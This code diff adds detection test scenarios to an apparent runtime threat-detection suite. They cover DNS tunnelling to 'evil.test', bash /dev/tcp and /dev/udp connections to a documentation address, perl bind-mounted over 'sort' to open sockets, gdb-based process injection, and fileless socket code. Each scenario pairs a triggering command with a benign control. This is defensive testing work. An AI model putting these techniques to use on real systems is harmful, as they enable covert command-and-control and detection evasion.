@@ -1222,9 +1222,8 @@ NAMES: Final = [
 ]
 
 LISTENER: Final = (
-    "mount -t tmpfs none /opt; cp /bin/bash /opt/{0}; /opt/{0} -c '"
-    'python3 -c "import socket; s = socket.socket(); s.listen()"; true'
-    "'"
+    MEMORY_FOLDER + 'echo "import socket; s = socket.socket(); s.listen()" > listen.py;'
+    " mount -t tmpfs none /opt; cp /bin/bash /opt/{0}; /opt/{0} -c 'python3 listen.py; true'"
 )
 """A program below something of that name waits for connections."""
 IN_PACKAGE: Final = "mount -t tmpfs none /opt; cp /bin/bash /opt/dpkg; "
@@ -1267,6 +1266,204 @@ PACKAGES_OF_LANGUAGES: Final = [
         OWN_NPM.format("npm"),
         OWN_NPM.format("mpn"),
         {"evidence.rule": "fetched_in_package", "context.commandLineExample": "curl URL"},
+        severity=INFORMATIONAL,
+    ),
+]
+
+NAMES_ASKED: Final = (
+    ASKING + "def names(parent, size, count):\n"
+    "    for n in range(count):\n"
+    "        ask(*(os.urandom(30).hex()[:size].encode() for _ in range(2)), *parent)\n"
+)
+"""Asks for so many names with two new labels of that size."""
+ANSWERING: Final = (
+    "import struct\n"
+    "data = {16: lambda: b'\\xff' + os.urandom(128).hex()[:255].encode(), 1: lambda: b'\\7' * 4}\n"
+    "ready, bound = os.pipe(); child = os.fork()\n"
+    "if not child:\n"
+    "    l = socket.socket(type=socket.SOCK_DGRAM); l.bind(('127.0.0.1', 53))\n"
+    "    os.write(bound, b'x')\n"
+    "    while True:\n"
+    "        asked, to = l.recvfrom(512); made = data[asked[-3]]()\n"
+    "        record = b'\\xc0\\x0c' + asked[-4:] + struct.pack('>IH', 0, len(made)) + made\n"
+    "        head = asked[:2] + struct.pack('>5H', 0x8180, 1, 1, 0, 0)\n"
+    "        l.sendto(head + asked[12:] + record, to)\n"
+    "os.read(ready, 1)\n"
+    "def ask(number, type):\n"
+    "    c = socket.socket(type=socket.SOCK_DGRAM); c.settimeout(5)\n"
+    "    name = b'\\x02%02d\\x04evil\\x04test\\0' % number\n"
+    "    asked = struct.pack('>6H', 1, 256, 1, 0, 0, 0) + name + struct.pack('>HH', type, 1)\n"
+    "    c.sendto(asked, ('127.0.0.1', 53)); c.recv(4096)\n"
+)
+"""A server of names with texts and addresses, and what asks it."""
+TUNNELS: Final = [
+    Scene(
+        "tunnel-by-names",
+        "CommandAndControl:Runtime/DnsTunnel",
+        _python(NAMES_ASKED + "names((b'evil', b'test'), 60, 40)"),
+        # Long names of machines.
+        _python(NAMES_ASKED + "names((b'evil', b'test'), 15, 400)"),
+        {
+            "evidence.rule": "data_in_names",
+            "context.tunnelDomain": "evil.test",
+            "context.tunnelNames": 35,
+            "action.dnsRequestAction.protocol": "UDP",
+        },
+        severity="medium",
+    ),
+    Scene(
+        "tunnel-by-names-and-a-process-for-each",
+        "CommandAndControl:Runtime/DnsTunnel",
+        _python(
+            NAMES_ASKED + "for n in range(40):\n"
+            "    if not os.fork(): names((b't', b'evil', b'co', b'test'), 60, 1); os._exit(0)\n"
+            "    os.wait()"
+        ),
+        # What leaves no cluster, and one name again and again.
+        _python(
+            NAMES_ASKED + "names((b'web', b'svc', b'cluster', b'local'), 60, 40)\n"
+            "for n in range(100): ask(b'x' * 60, b'a', b'test'); ask(b'%d' % n, b'a', b'test')"
+        ),
+        {"evidence.rule": "data_in_names"},
+        severity="medium",
+    ),
+    Scene(
+        "tunnel-by-answers",
+        "CommandAndControl:Runtime/DnsTunnel",
+        _python(ANSWERING + "for n in range(80): ask(n, 16)\nos.kill(child, 9)"),
+        # Policies and keys of mail, again and again, and many addresses.
+        _python(ANSWERING + "for n in range(99): ask(n % 20, 16); ask(n, 1)\nos.kill(child, 9)"),
+        {
+            "evidence.rule": "data_in_answers",
+            "context.tunnelDomain": "evil.test",
+            "action.dnsRequestAction.domain": ...,
+        },
+        severity="medium",
+    ),
+]
+
+OWN_ADDRESSES: Final = (
+    "import fcntl, socket, struct\n"
+    "def ask(number, name, address):\n"
+    "    packed = struct.pack('16sHH4s8x', name, 2, 0, socket.inet_aton(address))\n"
+    "    fcntl.ioctl(socket.socket(), number, packed)\n"
+    "fcntl.ioctl(socket.socket(), 0x8914, struct.pack('16sH14x', b'lo', 1))\n"
+    "ask(0x8916, b'lo:0', '192.0.2.1'); ask(0x891c, b'lo:0', '255.255.255.0')\n"
+)
+"""In a network namespace that is new: it has all addresses from 192.0.2.1 to 192.0.2.254."""
+CALLER: Final = (
+    "mount -t tmpfs none /mnt;"
+    " cp $(readlink -f $(python3 -c 'import sys; print(sys.executable)')) /mnt/caller;"
+    f" exec unshare --net /mnt/caller - <<'EOF'\n{OWN_ADDRESSES}{{}}\nEOF"
+)
+"""A program of which something is expected, in a network of its own with many addresses."""
+COME: Final = (
+    "l = socket.socket(); l.bind(('192.0.2.1', 0)); l.listen()\n"
+    "c = socket.socket(); c.bind(('{}', 0)); c.connect(l.getsockname()); l.accept()"
+)
+PACKETS: Final = (
+    "c = socket.socket(type=socket.SOCK_DGRAM); c.bind(('192.0.2.1', 0));"
+    " c.connect(('192.0.2.77', {}))"
+)
+EXPECTED: Final = [
+    Scene(
+        "unexpected-egress",
+        "UnauthorizedAccess:Runtime/UnexpectedEgress",
+        CALLER.format("for n in range(9): socket.socket().connect_ex(('192.0.2.77', n + 1))"),
+        CALLER.format("socket.socket().connect_ex(('192.0.2.7', 1))"),
+        {
+            "action.networkConnectionAction.remoteIpDetails.ipAddressV4": "192.0.2.77",
+            "action.networkConnectionAction.connectionDirection": "OUTBOUND",
+        },
+        severity="medium",
+    ),
+    Scene(
+        "unexpected-egress-by-packets",
+        "UnauthorizedAccess:Runtime/UnexpectedEgress",
+        CALLER.format(PACKETS.format(443)),
+        # How the best of several addresses is found.
+        CALLER.format(PACKETS.format(9)),
+        {"action.networkConnectionAction.protocol": "UDP"},
+        severity="medium",
+    ),
+    Scene(
+        "unexpected-egress-inside-of-the-new-protocol",
+        "UnauthorizedAccess:Runtime/UnexpectedEgress",
+        CALLER.format("socket.socket(socket.AF_INET6).connect_ex(('::ffff:192.0.2.77', 1))"),
+        CALLER.format("socket.socket(socket.AF_INET6).connect_ex(('::ffff:192.0.2.7', 1))"),
+        {"action.networkConnectionAction.remoteIpDetails.ipAddressV4": "192.0.2.77"},
+        severity="medium",
+    ),
+    Scene(
+        "unexpected-ingress",
+        "UnauthorizedAccess:Runtime/UnexpectedIngress",
+        CALLER.format(COME.format("192.0.2.99")),
+        CALLER.format(COME.format("192.0.2.7")),
+        {
+            "action.networkConnectionAction.remoteIpDetails.ipAddressV4": "192.0.2.99",
+            "action.networkConnectionAction.connectionDirection": "INBOUND",
+        },
+        severity="medium",
+    ),
+]
+
+REPLACED: Final = "mount --bind /usr/bin/perl /usr/bin/sort; sort -MSocket -e '{}'"
+INJECTED: Final = "sleep 20 & gdb -batch -nx -p $! -ex 'call (int)socket(2, {}, 0)' {}; kill $!"
+CODE_TALKS: Final = '"import socket; socket.socket().connect_ex((\\"{}\\", 7))"'
+TALKERS: Final = [
+    Scene(
+        "program-replaced-by-one-that-talks",
+        "CommandAndControl:Runtime/UnusualNetworkProgram",
+        REPLACED.format(
+            'socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(7, inet_aton("127.0.0.1")))'
+        ),
+        REPLACED.format('socket(S, PF_UNIX, SOCK_STREAM, 0); connect(S, sockaddr_un("x"))'),
+        {"evidence.rule": "silent_program_talks", "process.executablePath": "/usr/bin/sort"},
+        severity="medium",
+    ),
+    Scene(
+        "program-made-to-listen",
+        "CommandAndControl:Runtime/UnusualNetworkProgram",
+        INJECTED.format(1, "-ex 'call (int)listen($1, 1)'"),
+        INJECTED.format(1, "-ex 'call (int)close($1)'"),
+        {"evidence.rule": "silent_program_talks", "process.executablePath": "/usr/bin/sleep"},
+        severity="medium",
+        made_of=frozenset(
+            f"DefenseEvasion:Runtime/ProcessInjection.{how}" for how in ("Proc", "Ptrace")
+        ),
+    ),
+    Scene(
+        "shell-talks",
+        "CommandAndControl:Runtime/UnusualNetworkProgram",
+        MEMORY_FOLDER + "echo ': > /dev/t''cp/192.0.2.77/7' > x; unshare --net bash x",
+        # How it is asked whether a server is there yet.
+        MEMORY_FOLDER + "echo ': > /dev/t''cp/127.0.0.1/7' > x; bash x",
+        {"evidence.rule": "shell_talks"},
+        severity=INFORMATIONAL,
+    ),
+    Scene(
+        "shell-sends-packets",
+        "CommandAndControl:Runtime/UnusualNetworkProgram",
+        MEMORY_FOLDER + "echo ': > /dev/u''dp/192.0.2.77/7' > x; unshare --net bash x",
+        MEMORY_FOLDER + "echo ': > /dev/u''dp/127.0.0.1/7' > x; bash x",
+        {"evidence.rule": "shell_talks"},
+        severity=INFORMATIONAL,
+    ),
+    Scene(
+        "code-of-a-command-line-talks",
+        "CommandAndControl:Runtime/UnusualNetworkProgram",
+        f"unshare --net python3 -Wi -uc {CODE_TALKS.format('192.0.2.77')}",
+        f"python3 -c {CODE_TALKS.format('127.0.0.1')};"
+        f" echo {CODE_TALKS.format('192.0.2.77')} > x; unshare --net python3 x",
+        {"evidence.rule": "fileless_code_talks"},
+        severity=INFORMATIONAL,
+    ),
+    Scene(
+        "code-of-a-pipe-listens",
+        "CommandAndControl:Runtime/UnusualNetworkProgram",
+        "echo 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); fork or listen(S, 1); wait' | perl",
+        "echo 'use Socket; socket(S, PF_UNIX, SOCK_STREAM, 0); fork or listen(S, 1); wait' | perl",
+        {"evidence.rule": "fileless_code_talks"},
         severity=INFORMATIONAL,
     ),
 ]
@@ -1314,6 +1511,9 @@ DESTROYED: Final = [
 ]
 
 SCENES: Final = [
+    *TUNNELS,
+    *EXPECTED,
+    *TALKERS,
     *DESTROYED,
     *UNEXPECTED,
     *PACKAGES_OF_LANGUAGES,
